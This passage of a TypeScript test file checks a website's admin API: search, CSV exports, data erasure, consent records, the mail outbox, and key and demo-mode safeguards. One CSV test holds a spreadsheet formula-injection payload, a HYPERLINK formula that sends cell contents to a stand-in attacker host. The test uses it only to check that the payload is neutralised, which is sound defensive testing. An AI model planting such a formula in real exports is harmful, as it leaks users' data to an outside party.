      expect((await list<ContactRow>('contacts', { q: `0% ${m}` })).rows.map((r) => r.id)).toEqual([pct]);
      expect((await list<ContactRow>('contacts', { q: `a_b ${m}` })).rows.map((r) => r.id)).toEqual([under]);
      expect((await list<ContactRow>('contacts', { q: `k\\s` })).rows.map((r) => r.id)).toEqual([slash]);
      expect((await list<ContactRow>('contacts', { q: `no-such-${m}` })).rows).toEqual([]);
    });
  });

  describe('CSV export', () => {
    it('round-trips a message with a comma, a quote and a newline, with a BOM, CRLF rows and the spec file name', async () => {
      const m = tag();
      const message = `Hello, "weaver"\nsecond line\r\nthird, and "more"`;
      const name = `Zoë Ångström 日本 ${m}`;
      const id = await addContact({ name, message, subject: null });
      const res = await get(`/api/admin/contacts.csv?q=${encodeURIComponent(m)}`);
      expect(res.status).toBe(200);
      expectSecurityHeaders(res);
      expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8');
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${CSV_FILE_NAMES.contacts}"`);
      const bytes = new Uint8Array(await res.arrayBuffer());
      expect([...bytes.slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
      const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(bytes);
      expect(text.endsWith('\r\n')).toBe(true);
      expect(text).toContain('"Hello, ""weaver""\nsecond line\r\nthird, and ""more"""');
      const records = parseCsv(text);
      expect(records[0]).toEqual(['id', 'name', 'email', 'subject', 'message', 'source_page', 'submitted_at']);
      expect(records).toHaveLength(2);
      expect(records[1]).toEqual([
        id,
        name,
        expect.stringMatching(/@example\.com$/),
        '',
        message,
        '/contact',
        expect.stringMatching(/Z$/),
      ]);
    });

    it('neutralises formulas: =HYPERLINK(...), + - @, tab and CR starts are prefixed with an apostrophe', async () => {
      const m = tag();
      const hyperlink = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")';
      await addContact({ name: `${m} safe`, subject: hyperlink, message: '+1+2' });
      await addContact({ name: `${m} two`, subject: '@SUM(A1:A9)', message: '-3-4' });
      await addContact({ name: `${m} three`, subject: '\t=1', message: '\r=2' });
      const text = await (await get(`/api/admin/contacts.csv?q=${m}`)).text();
      const rows = parseCsv(text).slice(1);
      const cells = rows.flatMap((r) => [r[3], r[4]]);
      expect(cells.sort()).toEqual([`'${hyperlink}`, "'+1+2", "'-3-4", "'@SUM(A1:A9)", "'\t=1", "'\r=2"].sort());
      expect(text).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click"")"`);
      expect(text).not.toMatch(/(^|,)=HYPERLINK/m);
    });

    it('exports sign-ups (honouring the search) as email-signups.csv; an empty result is the header alone', async () => {
      const m = tag();
      const ids = [
        await addSignup({ email: `one-${m}@example.com` }),
        await addSignup({ email: `two-${m}@example.com`, signup_type: 'Newsletter' }),
      ];
      const res = await get(`/api/admin/signups.csv?q=${m}`);
      expect(res.headers.get('content-disposition')).toBe(`attachment; filename="${CSV_FILE_NAMES.signups}"`);
      const records = parseCsv(await res.text());
      expect(records[0]).toEqual(['id', 'email', 'signup_type', 'source_page', 'status', 'submitted_at']);
      expect(records.slice(1).map((r) => r[0])).toEqual([...ids].reverse());
      const empty = await (await get(`/api/admin/signups.csv?q=nothing-${m}`)).text();
      expect(parseCsv(empty)).toEqual([['id', 'email', 'signup_type', 'source_page', 'status', 'submitted_at']]);
      // The status filter holds for the export too.
      await t.db.query("UPDATE email_signups SET status = 'pending' WHERE id = $1::bigint", [ids[0]]);
      const pending = parseCsv(await (await get(`/api/admin/signups.csv?q=${m}&status=pending`)).text());
      expect(pending.slice(1).map((r) => [r[0], r[4]])).toEqual([[ids[0], 'pending']]);
      expect((await get(`/api/admin/signups.csv?status=maybe`)).status).toBe(400);
    });

    it('streams a large export in batches: every row once, in order', async () => {
      const m = tag();
      await t.db.query(
        `INSERT INTO email_signups (email, signup_type, source_page, submitted_at)
         SELECT 'bulk-' || g || '-${m}@example.com', 'Updates', '/', now() - g * interval '1 second' FROM generate_series(1, 4500) g`,
      );
      const records = parseCsv(await (await get(`/api/admin/signups.csv?q=-${m}@`)).text()).slice(1);
      expect(records).toHaveLength(4500);
      expect(records[0]![1]).toBe(`bulk-1-${m}@example.com`);
      expect(records[4499]![1]).toBe(`bulk-4500-${m}@example.com`);
      expect(new Set(records.map((r) => r[0])).size).toBe(4500);
    });
  });

  describe('erasure', () => {
    it('DELETE removes the row (204), then 404; bad ids are 404', async () => {
      const contact = await addContact();
      const signup = await addSignup();
      for (const [kind, id] of [
        ['contacts', contact],
        ['signups', signup],
      ] as const) {
        const table = kind === 'contacts' ? 'contact_submissions' : 'email_signups';
        const res = await send('DELETE', `/api/admin/${kind}/${id}`, { cookie });
        expect(res.status).toBe(204);
        expectSecurityHeaders(res);
        expect((await t.db.query(`SELECT 1 FROM ${table} WHERE id = $1`, [id])).rows).toHaveLength(0);
        await expectProblem(await send('DELETE', `/api/admin/${kind}/${id}`, { cookie }), 404, ADMIN_NOTICES.notFound);
        expect((await list<{ id: string }>(kind, { limit: '200' })).rows.map((r) => r.id)).not.toContain(id);
      }
      for (const bad of ['abc', '0', '-1', '1.5', '99999999999999999999', '9223372036854775808']) {
        await expectProblem(await send('DELETE', `/api/admin/contacts/${bad}`, { cookie }), 404);
      }
    });
  });

  describe('subscriptions (docs/subscriptions.md)', () => {
    it('a delete mails only a confirmed sign-up, and only when the owner says the person asked', async () => {
      const m = tag();
      const asked = await addSignup({ email: `asked-${m}@example.com` });
      const confirmed = await addSignup({ email: `kept-${m}@example.com` });
      const pending = await addSignup({ email: `pending-${m}@example.com` });
      await t.db.query("UPDATE email_signups SET status = 'pending' WHERE id = $1::bigint", [pending]);
      const contact = await addContact({ email: `wrote-${m}@example.com` });
      for (const path of [
        `signups/${asked}?notify=yes`,
        `signups/${confirmed}`,
        `signups/${pending}?notify=yes`,
        `contacts/${contact}?notify=yes`,
      ]) {
        expect((await send('DELETE', `/api/admin/${path}`, { cookie })).status).toBe(204);
      }
      const mails = await t.db.query<{ recipient: string; kind: string; subject: string }>(
        'SELECT recipient, kind, subject FROM mail_outbox WHERE recipient LIKE $1 ORDER BY id',
        [`%-${m}@example.com`],
      );
      // Cleaning up is silent; a message's or a pending sign-up's address is never mailed (third audit, item 6).
      expect(mails.rows).toEqual([
        {
          recipient: `asked-${m}@example.com`,
          kind: 'erasure-confirmation',
          subject: 'Your data at Rooted Threads is erased',
        },
      ]);
      // The erased sign-ups' addresses stay only as hashes: suppressed, and in the consent record.
      for (const email of [`kept-${m}@example.com`, `pending-${m}@example.com`]) {
        const history = await get(`/api/admin/consent?${new URLSearchParams({ email })}`, { cookie });
        expect(history.status).toBe(200);
        const { events } = (await history.json()) as ConsentHistory;
        expect(events.map((e) => [e.signup_type, e.event, e.channel])).toEqual([['Updates', 'erased', 'dashboard']]);
      }
      const csv = parseCsv(
        await (
          await get(`/api/admin/consent.csv?${new URLSearchParams({ email: `KEPT-${m}@example.com` })}`, { cookie })
        ).text(),
      );
      expect(csv[0]).toEqual([
        'occurred_at',
        'signup_type',
        'event',
        'channel',
        'source_page',
        'consent_version',
        'client_hash',
      ]);
      expect(csv.slice(1).map((r) => r[2])).toEqual(['erased']);
      expect((await get('/api/admin/consent?email=not-an-address', { cookie })).status).toBe(400);
      expect((await get('/api/admin/consent?id=1&email=a@b.co', { cookie })).status).toBe(400);
      expect((await send('GET', '/api/admin/consent?email=a@b.co')).status).toBe(401);
    });

    it('erasing an address’s last sign-up takes the e-mails to it from the outbox; one of two lists keeps them', async () => {
      const m = tag();
      const email = `two-lists-${m}@example.com`;
      const updates = await addSignup({ email });
      const movement = await addSignup({ email, signup_type: 'Movement' });
      await t.db.query(
        `INSERT INTO mail_outbox (kind, recipient, subject, text) VALUES ('signup-confirmation', $1, 'Confirm', 'Confirm it')`,
        [email],
      );
      const kinds = async () =>
        (
          await t.db.query<{ kind: string }>('SELECT kind FROM mail_outbox WHERE lower(recipient) = $1 ORDER BY id', [
            email,
          ])
        ).rows.map((r) => r.kind);
      expect((await send('DELETE', `/api/admin/signups/${updates}?notify=yes`, { cookie })).status).toBe(204);
      // Still on Movement: its mail stays, and the erasure of Updates is confirmed.
      expect(await kinds()).toEqual(['signup-confirmation', 'erasure-confirmation']);
      expect((await send('DELETE', `/api/admin/signups/${movement}?notify=yes`, { cookie })).status).toBe(204);
      // Nothing is held under the address now: only the two erasure confirmations name it.
      expect(await kinds()).toEqual(['erasure-confirmation', 'erasure-confirmation']);
    });

    it('lists sign-ups with their status, filtered by it', async () => {
      const m = tag();
      const a = await addSignup({ email: `a-${m}@example.com` });
      const b = await addSignup({ email: `b-${m}@example.com` });
      await t.db.query("UPDATE email_signups SET status = 'unsubscribed', email = NULL WHERE id = $1::bigint", [b]);
      const all = await list<{ id: string; status: string; email: string | null }>('signups', { limit: '200' });
      expect(all.rows.find((r) => r.id === a)).toMatchObject({ status: 'confirmed', email: `a-${m}@example.com` });
      expect(all.rows.find((r) => r.id === b)).toMatchObject({ status: 'unsubscribed', email: null });
      const gone = await list<{ id: string }>('signups', { status: 'unsubscribed', limit: '200' });
      expect(gone.rows.map((r) => r.id)).toContain(b);
      expect(gone.rows.map((r) => r.id)).not.toContain(a);
      expect((await get('/api/admin/signups?status=gone', { cookie })).status).toBe(400);
    });
  });

  describe('mail', () => {
    it('lists the outbox newest first with status, recipient, subject and text; a failed mail can be queued again, once', async () => {
      const insert = async (recipient: string, status: string, error: string | null) =>
        (
          await t.db.query<{ id: string }>(
            `INSERT INTO mail_outbox (kind, recipient, subject, text, status, attempts, last_error)
             VALUES ('owner-alert', $1, 'New message from Ada', 'Hello, body text.', $2, 1, $3) RETURNING id::text`,
            [recipient, status, error],
          )
        ).rows[0]!.id;
      const sent = await insert('sent@example.org', 'sent', null);
      const failed = await insert('failed@example.org', 'failed', '550 Recipient refused');

      const res = await get(`${MAIL_API.list}?status=failed`, { cookie });
      expect(res.status).toBe(200);
      expectSecurityHeaders(res);
      const page = (await res.json()) as MailPage;
      // No SMTP_URL in these targets: the embedded default, mail stays in the outbox.
      expect(page.configured).toBe(false);
      expect(page.rows.map((r) => r.id)).toContain(failed);
      expect(page.rows.map((r) => r.id)).not.toContain(sent);
      expect(page.rows.find((r) => r.id === failed)).toMatchObject({
        status: 'failed',
        recipient: 'failed@example.org',
        subject: 'New message from Ada',
        text: 'Hello, body text.',
        last_error: '550 Recipient refused',
      });
      expect(page.counts.failed).toBeGreaterThanOrEqual(1);

      const all = (await (await get(MAIL_API.list, { cookie })).json()) as MailPage;
      expect(all.rows.map((r) => r.id).indexOf(failed)).toBeLessThan(all.rows.map((r) => r.id).indexOf(sent));

      expect((await send('POST', MAIL_API.retry(failed), { cookie })).status).toBe(204);
      const row = (
        await t.db.query<{ status: string; attempts: number }>(
          'SELECT status, attempts FROM mail_outbox WHERE id = $1',
          [failed],
        )
      ).rows[0]!;
      expect(row).toEqual({ status: 'queued', attempts: 0 });
      // Only a failed mail is queued again: a second retry, a sent mail and bad ids are 404.
      for (const id of [failed, sent, 'abc', '0', '99999999999999999999']) {
        await expectProblem(await send('POST', MAIL_API.retry(id), { cookie }), 404, ADMIN_NOTICES.notFound);
      }
      expect((await send('POST', MAIL_API.retry(failed), { cookie, origin: EVIL })).status).toBe(403);
      await expectProblem(await get(`${MAIL_API.list}?status=lost`, { cookie }), 400);
      await t.db.query('DELETE FROM mail_outbox WHERE id IN ($1, $2)', [sent, failed]);
    });
  });

  // ── configuration (in-process targets: the test controls the environment) ──────────────────

  if (inProcess)
    describe('configuration', () => {
      it('fails closed without ADMIN_KEY, or with one under 16 characters: 503 "Admin is not configured"', async () => {
        const saved = process.env.ADMIN_KEY;
        try {
          for (const value of [undefined, 'short-key']) {
            if (value === undefined) delete process.env.ADMIN_KEY;
            else process.env.ADMIN_KEY = value;
            for (const [method, path] of [['GET', '/api/admin/session'], ['POST', '/api/admin/session'], ...GUARDED]) {
              const res = await send(method!, path!, {
                cookie,
                headers: { 'Content-Type': 'application/json' },
                body: method === 'POST' ? JSON.stringify({ key: value ?? '' }) : undefined,
              });
              await expectProblem(res, 503, ADMIN_NOTICES.notConfigured);
            }
          }
        } finally {
          process.env.ADMIN_KEY = saved;
        }
        expect((await get('/api/admin/stats')).status).toBe(200);
      });

      it('counts insights in SITE_TIME_ZONE; a malformed zone is a 500 that names the variable in the log', async () => {
        await t.db.query('DELETE FROM email_signups');
        // 03:30 UTC is still the day before in New York.
        const today = localDate(new Date(), 'UTC');
        await addSignup({ submitted_at: `${today}T03:30:00Z` });
        const saved = process.env.SITE_TIME_ZONE;
        const errors: string[] = [];
        const spy = vi.spyOn(console, 'error').mockImplementation((...args: unknown[]) => {
          errors.push(args.map(String).join(' '));
        });
        try {
          process.env.SITE_TIME_ZONE = 'UTC';
          const utc = (await (await get('/api/admin/insights')).json()) as Insights;
          expect(utc.timeZone).toBe('UTC');
          expect(utc.days.at(-1)).toMatchObject({ date: today, Updates: 1 });

          delete process.env.SITE_TIME_ZONE;
          const local = (await (await get('/api/admin/insights')).json()) as Insights;
          expect(local.timeZone).toBe('America/New_York');
          expect(local.days.find((d) => d.date === today)?.Updates ?? 0).toBe(0);
          expect(local.days.find((d) => d.date === addDays(today, -1))).toMatchObject({ Updates: 1 });

          process.env.SITE_TIME_ZONE = 'Mars/Olympus_Mons';
          await expectProblem(await get('/api/admin/insights'), 500, ADMIN_NOTICES.serverError);
          expect(errors.some((line) => line.includes('SITE_TIME_ZONE'))).toBe(true);
        } finally {
          spy.mockRestore();
          if (saved === undefined) delete process.env.SITE_TIME_ZONE;
          else process.env.SITE_TIME_ZONE = saved;
        }
      });

      it('ends every session when the key changes', async () => {
        const saved = process.env.ADMIN_KEY;
        try {
          process.env.ADMIN_KEY = `${saved}-rotated`;
          await expectProblem(await get('/api/admin/stats'), 401);
        } finally {
          process.env.ADMIN_KEY = saved;
        }
        expect((await get('/api/admin/stats')).status).toBe(200);
      });

      it('in local demo mode says where the key is (never the key), only to this machine by a local name with no proxy, and only while it is the key in force', async () => {
        // A browser on this machine: a loopback peer that asked for localhost.
        const local = { ip: '127.0.0.1', headers: { Host: 'localhost:8888' } };
        const keyFile = '/home/owner/rooted-threads/.data/admin-key';
        const anonymous = { error: ADMIN_NOTICES.sessionRequired };
        try {
          enableLocalDemo(TEST_ADMIN_KEY, keyFile);
          const hinted = await get('/api/admin/session', { ...local, cookie: '' });
          const text = await hinted.text();
          expect(JSON.parse(text)).toEqual({ ...anonymous, demoKeyFile: keyFile });
          expect(text).not.toContain(TEST_ADMIN_KEY);
          // Never to another machine, to a page that reached us by another name (DNS rebinding),
          // nor through a proxy on this machine (a loopback peer that rewrote Host to a local name).
          for (const other of [
            { ...local, ip: '203.0.113.9' },
            { ...local, headers: { Host: 'rootedthreads.example' } },
            { ...local, headers: { Host: 'localhost.rootedthreads.example:8888' } },
            ...['X-Forwarded-For', 'X-Forwarded-Host', 'X-Forwarded-Proto', 'Forwarded', 'X-Real-IP', 'Via'].map(
              (name) => ({
                ...local,
                headers: { ...local.headers, [name]: name === 'Via' ? '1.1 proxy' : '203.0.113.9' },
              }),
            ),
          ]) {
            expect(await (await get('/api/admin/session', { ...other, cookie: '' })).json()).toEqual(anonymous);
          }
          // A signed-in answer never carries it.
          expect(await (await get('/api/admin/session', local)).json()).toEqual(KEY_SESSION);
          process.env.ADMIN_KEY = `${TEST_ADMIN_KEY}-other`;
          expect(await (await get('/api/admin/session', { ...local, cookie: '' })).json()).toEqual(anonymous);
        } finally {
          disableLocalDemo();
          process.env.ADMIN_KEY = TEST_ADMIN_KEY;
        }
        expect(await (await get('/api/admin/session', { ...local, cookie: '' })).json()).toEqual(anonymous);
      });

      it('in local demo mode takes the key only from a page at a loopback origin with no proxy in between', async () => {
        // A loopback peer, so that only the Origin or the proxy's headers can be what is refused.
        const ip = '127.0.0.1';
        const headers = { Host: 'localhost:8888' };
        try {
          enableLocalDemo(TEST_ADMIN_KEY);
          for (const refused of [
            { origin: null },
            { origin: 'http://localhost:8888', headers: { ...headers, 'X-Forwarded-For': '203.0.113.9' } },
            { origin: 'http://localhost:8888', headers: { ...headers, Forwarded: 'for=203.0.113.9' } },
            { origin: 'http://localhost:8888', headers: { ...headers, Via: '1.1 nginx' } },
          ]) {
            await expectProblem(
              await postKey(TEST_ADMIN_KEY, { ip, headers, ...refused }),
              403,
              DEMO_MODE_NOTICES.localOnly,
            );
          }
          // Another site's page is refused as always (the same-site check comes first).
          for (const origin of ['https://shop.example.com', 'null']) {
            await expectProblem(await postKey(TEST_ADMIN_KEY, { ip, headers, origin }), 403);
          }
          expect((await postKey(TEST_ADMIN_KEY, { ip, headers, origin: 'http://localhost:8888' })).status).toBe(200);
        } finally {
          disableLocalDemo();
        }
        // With a deployment's key, a client without Origin (curl) logs in as before.
        expect((await postKey(TEST_ADMIN_KEY, { ip: freshIp(), origin: null })).status).toBe(200);
      });
    });
}
